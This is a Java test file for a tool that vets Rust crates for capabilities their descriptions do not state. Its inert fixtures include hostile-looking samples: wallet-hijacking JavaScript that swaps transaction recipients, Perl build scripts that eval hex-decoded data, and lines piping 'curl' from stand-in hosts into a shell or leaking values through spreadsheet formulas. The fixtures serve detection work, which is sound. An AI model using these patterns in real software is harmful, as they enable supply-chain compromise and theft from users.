package lazaret.vetting.inspect;

import static lazaret.vetting.inspect.InspectionFixture.demo;
import static lazaret.vetting.inspect.InspectionFixture.inspect;
import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import lazaret.testkit.CrateBuilder;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/// Crates with a capability that their page does not state, in files other than Rust, in texts or
/// by default hosts. All sources are inert and never compiled.
final class UnstatedReachTest {
  private static CrateBuilder crate(String description, String code) {
    String manifest = InspectionFixture.MANIFEST + "description = \"" + description + "\"\n";
    return demo().manifest(manifest).file("src/lib.rs", code);
  }

  private static List<Signal> of(SignalCode code, CrateBuilder crate) {
    return inspect(crate).signals().stream().filter(s -> s.code() == code).toList();
  }

  private static List<Signal> unstated(String description, String code) {
    return of(SignalCode.UNSTATED_CAPABILITY, crate(description, code));
  }

  @ParameterizedTest
  @CsvSource({
    "Stretches passwords in C, sendto(fd; state; 64; 0; to; 16);, 1",
    "Stretches passwords in C, getaddrinfo(name; 0; 0; &list);, 1",
    "Stretches passwords in C, // sendto(fd; state; 64);, 0",
    "Stretches passwords in C, mix(state; 64);, 0",
    "A client of time servers in C, sendto(fd; state; 64; 0; to; 16);, 0",
  })
  void carriedCThatReachesTheNetworkIsUnstated(String description, String line, int count) {
    CrateBuilder crate =
        crate(description, "extern \"C\" { fn mix(p: *mut u8); }")
            .file("build.rs", "fn main() { cc::Build::new().file(\"c/mix.c\").compile(\"mix\"); }")
            .file("c/mix.c", "void mix(void)\n{\n  %s\n}\n".formatted(line.replace(';', ',')));

    assertThat(of(SignalCode.UNSTATED_CAPABILITY, crate)).hasSize(count);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "provider.request = (call) => { call.params[0].to = MINE; return original(call); };",
        "const A = '0x00000000000000000000000000000000deadbeef'; tx.to = A;",
        "window.fetch = async (...a) => { log(a); return old(...a); };",
        "XMLHttpRequest.prototype.open = function (m, u) { seen(u); return o.apply(this, arguments); };",
        "const A = \"bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh\"; out.recipient = A;",
        "wallet.signTransaction = (t) => sign(change(t));",
      })
  void glueThatTakesThePlaceOfTheWalletIsReported(String script) {
    assertThat(glue(script))
        .singleElement()
        .satisfies(s -> assertThat(s.weight()).isEqualTo(SignalWeight.HIGH));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "export function request(provider, method, params) { return provider.request({ method, params }); }",
        "export const send = (p, tx) => { const out = { ...tx }; out.to = tx.to; return p.send(out); };",
        "if (window.fetch === undefined) { throw new Error('old browser'); }",
        "const MULTICALL = '0xca11bde05977b3631167028862be2a173976ca11'; export { MULTICALL };",
      })
  void glueThatHandsOnIsNot(String script) {
    assertThat(glue(script)).isEmpty();
  }

  private static List<Signal> glue(String script) {
    String code = "#[wasm_bindgen(module = \"/js/link.js\")] extern \"C\" { fn request(m: &str); }";
    return of(
        SignalCode.SCRIPT_CONDUCT,
        crate("Speaks to a wallet in the browser", code).file("js/link.js", script + "\n"));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "$check .= pack 'H*', $1 if $line =~ /^#=(.*)$/;\neval $check if $check;\n",
        "$c = pack('H*', join('', <DATA>));\neval $code;\n",
      })
  void generatorThatEvaluatesItsDataIsReported(String script) {
    CrateBuilder crate =
        crate("Groups of glyphs", "pub struct G;")
            .file(
                "build.rs", "fn main() { Command::new(\"perl\").arg(\"gen/groups.pl\").status(); }")
            .file("gen/groups.pl", "use strict;\n" + script);

    assertThat(of(SignalCode.SCRIPT_CONDUCT, crate)).isNotEmpty();
  }

  @Test
  void loadedCodeThatThePageDoesNotNameIsUnstated() {
    String code =
        "pub fn open(db: &Connection, blob: &[u8]) { std::fs::write(\"c.so\", blob); unsafe {"
            + " db.load_extension(\"c.so\", None); } }";

    assertThat(unstated("Keys and values in one file", code))
        .anyMatch(s -> s.excerpt().startsWith("loading of code"));
    assertThat(unstated("Keys and values with extensions", code))
        .noneMatch(s -> s.excerpt().startsWith("loading of code"));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "pub const BARS: &str = \"bars.demo.invalid\"; pub fn bar(c: &str) -> String { format!("
            + "\"=IMAGE(\\\"https://{}/bar.svg?w=\\\"&{c})\", BARS) }",
        "pub fn cell(v: &str) -> String { format!(\"=WEBSERVICE(\\\"https://s.demo.invalid/?v={v}\\\")\") }",
        "pub fn page(v: &str) -> String { format!(\"<img src=\\\"https://i.demo.invalid/p?v={v}\\\">\") }",
        "pub fn svg(w: u32) -> String { format!(\"<svg><image href=\\\"https://p.demo.invalid/{w}\\\"/></svg>\") }",
        "pub fn file(n: &str) -> String { format!(\"FROM debian\\nRUN curl -s https://g.demo.invalid/i.sh | sh\\nCOPY . /{n}\") }",
        "pub fn list(a: &str) -> String { format!(\"--extra-index-url https://p.demo.invalid/simple\\n{a}\") }",
        "pub fn host(n: &str) -> String { format!(\"Host {n}\\n  ProxyCommand sh -c 'curl -s http://p.demo.invalid | sh'\") }",
        "pub fn css() -> &'static str { \"@import url(https://f.demo.invalid/a.css)\" }",
      })
  void textThatShowsSomethingOfAnUnnamedHostIsUnstated(String code) {
    assertThat(unstated("Writes tables", code))
        .anyMatch(s -> s.excerpt().contains("which the crate does not name"));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "pub fn page(v: &str) -> String { format!(\"<img src=\\\"{v}\\\">\") }",
        "pub const NS: &str = \"http://www.w3.org/2000/svg\"; pub fn svg(h: &str) -> String { format!("
            + "\"<svg xmlns=\\\"http://www.w3.org/2000/svg\\\"><image href=\\\"{h}\\\"/></svg>\") }",
        "pub const HELP: &str = \"https://help.demo.invalid\"; pub fn page(v: &str) -> String { format!("
            + "\"<img src=\\\"{v}\\\">\") }",
        "pub fn sum(c: &str) -> String { format!(\"=SUM({c})\") }",
        "pub const NS: &str = \"http://www.w3.org/2000/svg\";",
        "pub fn link() -> &'static str { \"<a href=\\\"https://docs.demo.invalid\\\">help</a>\" }",
      })
  void textOfTheCallersAddressIsNot(String code) {
    assertThat(unstated("Writes tables", code)).isEmpty();
  }

  @Test
  void hostThatOnlyTheNameOfTheCrateExplainsIsUnstated() {
    String code =
        "pub fn beat(url: Option<&str>) { let _ = ureq::post(url.unwrap_or("
            + "\"https://beat.demo.invalid/v1\")).call(); }";

    assertThat(unstated("Runs a timetable inside a service", code))
        .anyMatch(s -> s.excerpt().contains("host beat.demo.invalid"));
    assertThat(unstated("Client of the Demo service", code)).isEmpty();
    assertThat(unstated("Client for a weather service", code)).isEmpty();
    assertThat(unstated("Client", "//! Speaks to Demo.\n" + code)).isEmpty();
  }

  @Test
  void settingsOfOthersThatNameAnUnnamedHostAreUnstated() {
    String code =
        "pub fn settle(d: &Path) { let p = d.ancestors().find(|d| d.join(\"package-lock.json\")"
            + ".is_file()); std::fs::write(p.unwrap().join(\".npmrc\"),"
            + " \"registry=https://registry.pkgs.invalid/\"); }";

    assertThat(unstated("Writes the package file", code))
        .anyMatch(s -> s.excerpt().contains("registry.pkgs.invalid"));
  }
}
